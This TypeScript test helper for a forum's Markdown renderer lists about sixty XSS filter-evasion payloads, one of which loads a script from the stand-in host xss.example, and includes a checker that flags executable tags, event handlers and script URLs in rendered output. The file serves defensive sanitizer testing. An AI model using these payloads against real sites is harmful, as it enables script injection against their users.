import { Parser } from 'htmlparser2';

/**
 * Known XSS payloads (OWASP XSS filter-evasion cheat-sheet style), each of which would set
 * window.__xss or call alert() if it ever executed. Used against the Markdown renderer
 * (tests/forum/markdown.test.ts) and in Chromium (tests/e2e/forum-xss.test.ts).
 */
export const XSS_PAYLOADS: string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=window.__xss=1>',
  '<IMG SRC="javascript:window.__xss=1">',
  '<IMG SRC=javascript:window.__xss=1>',
  '<IMG SRC=JaVaScRiPt:window.__xss=1>',
  '<IMG SRC=`javascript:window.__xss=1`>',
  '<IMG """><SCRIPT>window.__xss=1</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC="jav&#x09;ascript:window.__xss=1">',
  '<IMG SRC=" &#14;  javascript:window.__xss=1">',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<body onload=window.__xss=1>',
  '<div style="background:url(javascript:window.__xss=1)">x</div>',
  '<div style="width: expression(window.__xss=1)">x</div>',
  '<style>@import "javascript:window.__xss=1";</style>',
  '<link rel="stylesheet" href="javascript:window.__xss=1">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<a href="javascript:window.__xss=1">klikk</a>',
  '<a href="JaVaScRiPt:window.__xss=1">klikk</a>',
  '<a href="&#106;avascript:window.__xss=1">klikk</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==">klikk</a>',
  '<a href="vbscript:msgbox(1)">klikk</a>',
  '<a href="#" onclick="window.__xss=1">klikk</a>',
  '<a href="#" onmouseover="window.__xss=1">hover</a>',
  '<input autofocus onfocus=window.__xss=1>',
  '<select autofocus onfocus=window.__xss=1></select>',
  '<textarea autofocus onfocus=window.__xss=1></textarea>',
  '<details open ontoggle=window.__xss=1>',
  '<video><source onerror="window.__xss=1"></video>',
  '<audio src=x onerror=window.__xss=1>',
  '<marquee onstart=window.__xss=1>',
  '<form action="javascript:window.__xss=1"><button>go</button></form>',
  '<button formaction="javascript:window.__xss=1">go</button>',
  '<base href="javascript:window.__xss=1//">',
  '<<SCRIPT>window.__xss=1;//<</SCRIPT>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
  '</textarea><script>window.__xss=1</script>',
  '</title><script>window.__xss=1</script>',
  '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '[klikk](javascript:window.__xss=1)',
  '[klikk](JAVASCRIPT:window.__xss=1)',
  '[klikk](javascript&#58;window.__xss=1)',
  '[klikk](data:text/html,<script>parent.__xss=1</script>)',
  '![bilde](javascript:window.__xss=1)',
  '![bilde](x" onerror="window.__xss=1)',
  '[a](https://example.com" onclick="window.__xss=1)',
  '<javascript:window.__xss=1>',
  '```html\n<script>window.__xss=1</script>\n```',
  '`<img src=x onerror=window.__xss=1>`',
  '**<img src=x onerror=window.__xss=1>**',
  '> <script>window.__xss=1</script>',
  '@<img src=x onerror=window.__xss=1>',
  ':<img src=x onerror=window.__xss=1>:',
];

const ALLOWED_TAGS = new Set([
  'p', 'br', 'hr', 'strong', 'em', 's', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li',
  'a', 'img', 'h3', 'h4', 'h5', 'h6', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'sup', 'sub', 'mark',
]);

/**
 * What in a piece of rendered HTML could run in a browser: elements outside the allowlist,
 * event-handler attributes, and script-capable URLs in href/src (entities decoded first).
 * Escaped text such as `&lt;img onerror=…&gt;` is inert and not reported.
 */
export function executableParts(html: string): string[] {
  const problems: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (!ALLOWED_TAGS.has(name)) problems.push(`<${name}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (attribute.startsWith('on')) problems.push(`${name}[${attribute}]`);
          if (attribute === 'style') problems.push(`${name}[style]`);
          if ((attribute === 'href' || attribute === 'src') && /^(javascript|vbscript|data):/i.test(value.replace(/[\u0000-\u0020]/g, ''))) {
            problems.push(`${name}[${attribute}=${value}]`);
          }
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return problems;
}
